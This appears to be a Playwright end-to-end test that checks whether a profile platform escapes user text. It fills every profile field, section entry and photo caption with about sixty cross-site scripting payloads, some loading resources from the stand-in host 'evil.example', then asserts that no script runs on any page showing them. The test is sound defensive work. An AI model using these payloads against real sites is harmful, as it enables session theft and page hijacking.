import type { Page } from '@playwright/test';
import {
  maximumSections,
  people,
  personSectionForms,
  personSectionKinds,
  z,
  type PersonSectionKind,
  type RouteDescriptor,
} from '@rostrum/contracts';
import { followNotices } from '../browser/notices.ts';
import { sessionOf } from '../browser/session-of.ts';
import { settle } from '../crawl/crawl-links.ts';
import { expect, test } from '../server/fixtures.ts';

const evil = 'evil.example';
/** What a browser would run, load or follow if any of it became markup; each is at most 80 characters. */
const payloads = [
  '<script>window.ran=1</script>',
  '"><script>window.ran=1</script>',
  '</script><script>window.ran=1</script>',
  '</title><script>window.ran=1</script>',
  '</textarea><script>window.ran=1</script>',
  '</style><script>window.ran=1</script>',
  '--><script>window.ran=1</script>',
  ']]><script>window.ran=1</script>',
  '<ScRiPt>window.ran=1</sCrIpT>',
  '<scr<script>ipt>window.ran=1</scr</script>ipt>',
  `<script src=//${evil}/x.js></script>`,
  '<img src=x onerror=window.ran=1>',
  '"><img src=x onerror=window.ran=1>',
  "'><img src=x onerror='window.ran=1'>",
  '" autofocus onfocus=window.ran=1 x="',
  "' onmouseover=window.ran=1 x='",
  '` onclick=window.ran=1',
  `<img src=//${evil}/pixel.gif>`,
  '<svg onload=window.ran=1>',
  '<svg><script>window.ran=1</script></svg>',
  '<svg><animate onbegin=window.ran=1 attributeName=x>',
  '<math><mi//xlink:href="data:x,<script>window.ran=1</script>">',
  '<math><mtext><table><mglyph><style><img src onerror=window.ran=1>',
  '<iframe srcdoc="<script>parent.ran=1</script>">',
  `<iframe src=//${evil}/></iframe>`,
  '<iframe src=javascript:parent.ran=1>',
  `<base href=//${evil}/>`,
  `<form action=//${evil}/><input name=x autofocus>`,
  `<link rel=stylesheet href=//${evil}/x.css>`,
  `<style>@import "//${evil}/y.css";</style>`,
  `<div style="background:url(//${evil}/z.gif)">`,
  `<meta http-equiv=refresh content="0;url=//${evil}/">`,
  '<noscript><p title="</noscript><img src=x onerror=window.ran=1>">',
  '<template><script>window.ran=1</script></template>',
  `<object data=//${evil}/o></object>`,
  `<embed src=//${evil}/e>`,
  `<video poster=//${evil}/v src=x onerror=window.ran=1>`,
  '<audio src=x onerror=window.ran=1>',
  '<details open ontoggle=window.ran=1>',
  '<marquee onstart=window.ran=1>',
  '<body onload=window.ran=1>',
  '<input autofocus onfocus=window.ran=1>',
  '<a href="javascript:window.ran=1" id=location>x</a>',
  '<a href="data:text/html,<script>window.ran=1</script>">x</a>',
  '<img name=cookie><form id=__proto__><input name=attributes>',
  '<x id=root></x><x id=rostrum-registry></x>',
  'javascript:window.ran=1',
  'JaVa\u200BScRiPt:window.ran=1',
  '{{constructor.constructor("window.ran=1")()}}',
  '${window.ran=1}',
  '<%= window.ran=1 %>',
  '#{window.ran=1}',
  '&lt;script&gt;window.ran=1&lt;/script&gt;',
  '&#60;img src=x onerror=window.ran=1&#62;',
  '\\u003cscript\\u003ewindow.ran=1\\u003c/script\\u003e',
  '%3Cscript%3Ewindow.ran=1%3C/script%3E',
  '<!--<img src="--><img src=x onerror=window.ran=1>">',
  '<![CDATA[<script>window.ran=1</script>]]>',
  '\u202E<img src=x onerror=window.ran=1>',
  '<plaintext><xmp><listing>',
];
let taken = 0;
const next = (): string => payloads[taken++ % payloads.length] ?? '';

/** What fields take that are no free text. */
const plain: Readonly<Record<string, unknown>> = {
  code: 'en',
  speak: 'fluent',
  interview: true,
  current: true,
  highlighted: false,
  network: 'x',
  currency: 'EUR',
  timezone: 'Europe/London',
  doi: '10.1000/x<svg',
  year: 2020,
  amount: 5,
  minutes: 5,
  formats: ['keynote'],
};

/** An entry of a kind with a payload in each field that takes words, and a plain value in every other. */
function writeEntry(kind: PersonSectionKind): object {
  const shape: Record<string, { safeParse: (value: unknown) => { success: boolean } }> =
    personSectionForms[kind].shape;
  const entry: Record<string, unknown> = {};
  for (const [name, field] of Object.entries(shape)) {
    if (/^cover|^number$/.test(name) && kind !== 'patent') continue;
    const fits = (value: unknown) => field.safeParse(value).success;
    const address =
      kind === 'video' ? 'https://vimeo.com/1?<svg>' : `https://x.example/"onclick=window.ran=1`;
    const found = [plain[name], next(), next(), 'tv', 'article', 'professional', '2026-01-02', address].find(
      (value) => value !== undefined && fits(value),
    );
    if (found !== undefined) entry[name] = found;
  }
  return entry;
}

/** Everything that a page does which no words of a profile may bring about. */
async function watch(page: Page, origin: string): Promise<string[]> {
  const trouble: string[] = [];
  page.on('dialog', (dialog) => {
    trouble.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('pageerror', (error) => trouble.push(`error ${error.message}`));
  page.on('console', (line) => {
    if (/Content Security Policy/.test(line.text())) trouble.push(line.text());
  });
  await page.route(
    (url) => /^https?:$/.test(url.protocol) && url.origin !== origin,
    (route) => {
      trouble.push(`request ${route.request().url()}`);
      return route.abort();
    },
  );
  return trouble;
}

/** What of a page could only have come out of words: elements, handlers and addresses that no page of the product has. */
const findMarkup = (page: Page): Promise<string[]> =>
  page.evaluate((host) => {
    const found = 'ran' in window ? ['a script ran'] : [];
    for (const element of document.querySelectorAll('*')) {
      for (const { name, value } of element.attributes)
        if (
          name.startsWith('on') ||
          (/^(?:href|src|action|data|poster|srcdoc)$/.test(name) &&
            /^\s*(?:javascript|data:text\/(?!vcard)|vbscript):?/i.test(value))
        )
          found.push(`${element.tagName} ${name}=${value.slice(0, 60)}`);
      if (/^(?:BASE|OBJECT|EMBED|MARQUEE|PLAINTEXT|XMP|MGLYPH|X)$/i.test(element.tagName))
        found.push(element.tagName);
    }
    for (const link of document.querySelectorAll<HTMLAnchorElement>('a[href]'))
      if (link.hostname === host) found.push(`link to ${host}`);
    return found;
  }, evil);

test('S5: nothing that is written into a profile becomes markup, on any page that shows it', async ({
  visit,
  baseURL,
}) => {
  const editor = await visit('administrator');
  const { user, sessionToken } = await sessionOf(editor.request);
  let version = 1;
  let id = '';
  async function call(route: RouteDescriptor, body: object): Promise<z.output<typeof people.get.response>> {
    const path = route.path.replace('{identifier}', user.identifier).replace('{id}', id);
    const answer = await editor.request.fetch(path, {
      method: route.method,
      headers: { authorization: `Bearer ${sessionToken}` },
      data: body,
    });
    expect([route.id, body, answer.status(), answer.ok() ? '' : await answer.text()]).toEqual([
      route.id,
      body,
      route.status ?? 200,
      '',
    ]);
    const { data } = z.object({ data: people.get.response }).parse(await answer.json());
    ({ version } = data);
    return data;
  }

  const added = await call(people.create, {
    kind: 'expert',
    username: 'written-by-evil',
    firstname: '<b>Eve</b>',
    lastname: '<img src=x onerror=window.ran=1>',
    job_title: next(),
    email: 'eve@northmere.example',
    department: next(),
  });
  ({ id } = added);
  await call(people.update, {
    version,
    headline: payloads.slice(0, 4).join(' ').slice(0, 140),
    biography: payloads.join('\n').slice(0, 2500),
    topics: payloads.slice(0, 30),
    industries: ['Construction and engineering'],
    tags: payloads.slice(30, 60),
    suffix: '<svg onload=window.ran=1>',
    name_pronunciation: next(),
    pronouns: '<img src onerror=window.ran=1>',
    phone: '"><img src onerror=window.ran=1>',
    address: next(),
    city: next(),
    state: next(),
    building: next(),
    room: '<img src onerror=window.ran=1>',
    shown_contact: ['email', 'phone', 'address'],
  });
  for (const kind of personSectionKinds) {
    const count = kind === 'language' ? 1 : Math.min(4, maximumSections[kind]);
    await call(people.replaceSections, {
      kind,
      version,
      entries: Array.from({ length: count }, () => ({ data: writeEntry(kind) })),
    });
  }
  const notices = await followNotices(editor);
  const watched = [{ page: editor, trouble: await watch(editor, String(baseURL)) }];

  // The portrait, whose words go into the attributes of pictures everywhere.
  await editor.goto(`/dashboard/people/${id}`);
  await editor.getByLabel(/photo from your device/).setInputFiles({
    name: '<svg onload=window.ran=1>.png',
    mimeType: 'image/png',
    buffer: await editor.screenshot(),
  });
  await editor
    .getByLabel(/^Description/)
    .last()
    .fill('"><img src=x onerror=window.ran=1>');
  await editor
    .getByLabel(/^Credit/)
    .last()
    .fill(`<img src=//${evil}/credit>`);
  await editor.getByRole('button', { name: 'Save photo' }).click();
  await notices.expectNotice('Photo saved.');
  await call(people.recordConsent, { how: next() });
  await call(people.move, { status: 'published' });

  const guest = await visit();
  const seeker = await visit('media');
  for (const page of [guest, seeker]) watched.push({ page, trouble: await watch(page, String(baseURL)) });
  const shown: [Page, string][] = [
    [editor, `/dashboard/people/${id}`],
    [editor, `/dashboard/people?q=${encodeURIComponent('Eve')}`],
    [editor, '/dashboard/people/activity'],
    [editor, `/dashboard/people/${id}/history`],
    [editor, '/dashboard/activity'],
    [guest, '/experts/written-by-evil'],
    [guest, '/organizations/northmere'],
    [seeker, '/experts/written-by-evil'],
    [seeker, '/dashboard/search?q=Eve&active=experts'],
    [seeker, '/experts/written-by-evil/inquire'],
  ];
  for (const [page, address] of shown) {
    await page.goto(address);
    await settle(page);
    expect([address, await findMarkup(page)]).toEqual([address, []]);
  }
  // It is there, as the words that it is.
  for (const page of [guest, seeker]) {
    await page.goto('/experts/written-by-evil');
    await expect(page.getByRole('heading', { level: 1 })).toContainText('<img src=x onerror=window.ran=1>');
    await expect(page.getByText(payloads[0] ?? '').first()).toBeVisible();
  }
  for (const { trouble } of watched) expect(trouble).toEqual([]);
});
